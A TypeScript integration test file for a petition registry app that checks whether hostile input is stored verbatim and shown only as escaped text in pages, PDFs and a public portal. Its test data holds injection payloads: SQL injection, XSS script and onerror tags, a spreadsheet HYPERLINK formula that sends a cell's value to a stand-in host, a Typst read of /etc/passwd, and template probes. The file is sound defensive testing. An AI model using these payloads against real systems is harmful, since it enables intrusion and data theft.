import type { NestExpressApplication } from '@nestjs/platform-express';
import { createHttpApp, Db } from '@oficialia/platform';
import { verifyLedger } from '@oficialia/registry';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PortalModule } from '../../apps/portal/src/portal.module.js';
import { startDesk, type Desk } from '../support/desk.js';
import { HandClock } from '../support/hand-clock.js';
import { readPdf } from '../support/pdf.js';
import { api, refer, register, sendRegistration, SIGNED_FOR } from '../support/petitions.js';
import type { SignedIn } from '../support/signed-in.js';

const clock = new HandClock('2026-03-10T16:00:00Z');
let desk: Desk;
let portal: NestExpressApplication;
let supervisor: SignedIn;

beforeAll(async () => {
  desk = await startDesk({ clock });
  portal = await createHttpApp(PortalModule.with(desk.config, clock));
  await portal.listen(0, '127.0.0.1');
  supervisor = await desk.signIn('supervisor');
});
afterAll(async () => {
  await portal.close();
  await desk.close();
});

/** What is typed, and what of it is kept: all but the characters that nobody sees. */
const TEXTS: [string, string, string?][] = [
  ['SQL', `'); DROP TABLE petition; --\\' OR 1=1 /* $1 $$ E'\\x00' */`],
  ['HTML', `<script>alert(1)</script><img src=x onerror=alert(1)>"'><svg/onload=1>&lt;&#60;`],
  ['a formula', `=HYPERLINK("http://malo.example/?"&A1,"Pase")`],
  ['Typst', `#panic("x") #read("/etc/passwd") *b* _i_ $x$ [y] @ref <l> \\ // c`],
  ['templates', `\${7*7} {{7*7}} <%= 7*7 %> %s %n %00`],
  ['invisible characters', 'uno\u0000dos\u202Etres\u2066cuatro\u0007', 'unodostrescuatro'],
  ['half a character', 'uno\uD800dos', 'uno\uFFFDdos'],
];

/** As an HTML page shows it. */
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const squeezed = (text: string) => text.replace(/\s+/g, '');

function expectShown(html: string, text: string): void {
  expect(html).toContain(escaped(text));
  expect(escaped(text) !== text && html.includes(text)).toBe(false);
}

async function expectPrinted(path: string, text: string): Promise<void> {
  expect(squeezed((await readPdf(supervisor.get(path))).text)).toContain(squeezed(text));
}

/** A petition with the text wherever a text may be. */
function registerWith(typed: string): Promise<{ folio: string; lookupCode: string }> {
  return register(desk, {
    senderKind: 'organisation',
    senderName: `Robert'); DROP TABLE petition;-- A.C.`,
    receivedAt: '2026-03-10T12:00:00Z',
    annexes: [{ count: 1, description: typed, form: 'copy' }],
    ...Object.fromEntries(Object.keys(COLUMNS).map((field) => [field, typed])),
  });
}

describe.each(TEXTS)('%s in every text of a petition', (_what, typed, kept = typed) => {
  let folio: string;

  beforeAll(async () => {
    ({ folio } = await registerWith(typed));
  });

  it('is kept as it was typed', async () => {
    const [row] = await desk.database.query<Record<string, unknown>>('SELECT * FROM petition WHERE folio = $1', [
      folio,
    ]);
    for (const column of Object.values(COLUMNS)) expect([column, row![column]]).toEqual([column, kept]);
    expect(row).toMatchObject({
      annexes: [{ description: kept }],
      sender_name: `Robert'); DROP TABLE petition;-- A.C.`,
    });
    expect((await api(desk, 'auditor').get(`/petitions/${folio}`)).body).toMatchObject({ subject: kept });
  });

  it('is only text on the pages, and found by searching for it', async () => {
    expectShown((await supervisor.get(`/peticiones/${folio}`)).text, kept);
    const list = (await supervisor.get('/peticiones').query({ q: typed })).text;
    expectShown(list, kept);
    expect(list).toContain(folio);
    expectShown((await supervisor.get(`/peticiones/${folio}/correcciones?dato=subject`)).text, kept);
    expectShown((await supervisor.get(`/peticiones/${folio}/turnar`)).text, kept);
  });

  it('is only text on the receipt and the sticker', async () => {
    const issued = await supervisor.post(`/peticiones/${folio}/acuses`);
    await expectPrinted(issued.headers['location'] as string, kept);
    await readPdf(supervisor.get(`${issued.headers['location'] as string}?formato=etiqueta`));
  });
});

describe.each(TEXTS)('%s in every act on a petition', (_what, typed, kept = typed) => {
  let folio: string;
  let lookupCode: string;

  beforeAll(async () => {
    ({ folio, lookupCode } = await registerWith(typed));
  });

  it('is only text in a correction and in an annulment', async () => {
    const seen = (await api(desk, 'auditor').get(`/petitions/${folio}`)).body.addressedTo as string;
    const correction = { field: 'addressed_to', seen, value: `Otra ${typed}`, reason: typed };
    await api(desk, 'supervisor').post(`/petitions/${folio}/corrections`, correction).expect(201);
    await api(desk, 'follow_up').post(`/petitions/${folio}/annulments`, { reason: typed }).expect(201);
    const { text } = await supervisor.get(`/peticiones/${folio}`);
    for (const shown of [`«${kept}» → «Otra ${kept}»`, `: ${kept}`]) expectShown(text, shown);
    await api(desk, 'supervisor').post(`/petitions/${folio}/annulments/decision`, { approved: false }).expect(201);
  });

  it('is only text on the way to the answer, on its papers and in the portal', async () => {
    const id = await refer(desk, folio, { message: typed });
    const [referral] = (await api(desk, 'follow_up').get(`/petitions/${folio}/referrals`)).body as { oficio: string }[];
    const department = api(desk, 'department');
    await department.post(`/referrals/${id}/acknowledgement`, { name: typed, position: typed }).expect(201);
    await department.post(`/referrals/${id}/reply`, { sense: 'granted', text: typed }).expect(201);
    const proof = { ...SIGNED_FOR, method: 'in_person', notifiedOn: '2026-03-10', recipient: typed, proof: typed };
    await api(desk, 'follow_up').post(`/petitions/${folio}/notifications`, proof).expect(201);
    expectShown((await supervisor.get(`/peticiones/${folio}`)).text, kept);
    await expectPrinted(`/peticiones/${folio}/oficios/${referral!.oficio.replaceAll('/', '-')}.pdf`, kept);
    await expectPrinted(`/peticiones/${folio}/respuesta.pdf`, kept);
    const open = request(portal.getHttpServer() as Parameters<typeof request>[0])
      .post('/consulta')
      .type('form');
    expectShown((await open.send({ folio, codigo: lookupCode })).text, kept);
  });

  it('leaves the ledger whole', async () => {
    expect((await verifyLedger(desk.app.get(Db))).fault).toBeUndefined();
  });
});

/** Texts of a registration, by the column that keeps them. */
const COLUMNS = {
  senderPosition: 'sender_position',
  senderInstitution: 'sender_institution',
  contactAddress: 'contact_address',
  contactNeighbourhood: 'contact_neighbourhood',
  documentNumber: 'document_number',
  addressedTo: 'addressed_to',
  subject: 'subject',
  notes: 'notes',
  receivedReason: 'received_reason',
};

describe('A name', () => {
  const send = (senderName: string) => sendRegistration(desk, { senderName });

  it.each(['<script>alert(1)</script>', '=HYPERLINK("x")', '#panic("x")', '{{7*7}}', 'Ana;'])(
    'that is none is refused: %s',
    async (senderName) => {
      const { status, body } = await send(senderName);
      expect([status, body.fields]).toEqual([422, [{ field: 'senderName', message: expect.any(String) }]]);
    },
  );

  it('loses the characters that nobody sees', async () => {
    const { body } = await send('Ana\u202E Pe\u0000ña');
    const rows = await desk.database.query('SELECT sender_name FROM petition WHERE folio = $1', [body.folio]);
    expect(rows).toEqual([{ sender_name: 'Ana Peña' }]);
  });

  it('comes back escaped in the form', async () => {
    const senderName = '"><script>alert(1)</script>';
    const { status, text } = await supervisor.post('/registrar', { senderName, idempotencyKey: 'clave-de-prueba' });
    expect(status).toBe(422);
    expectShown(text, senderName);
  });
});
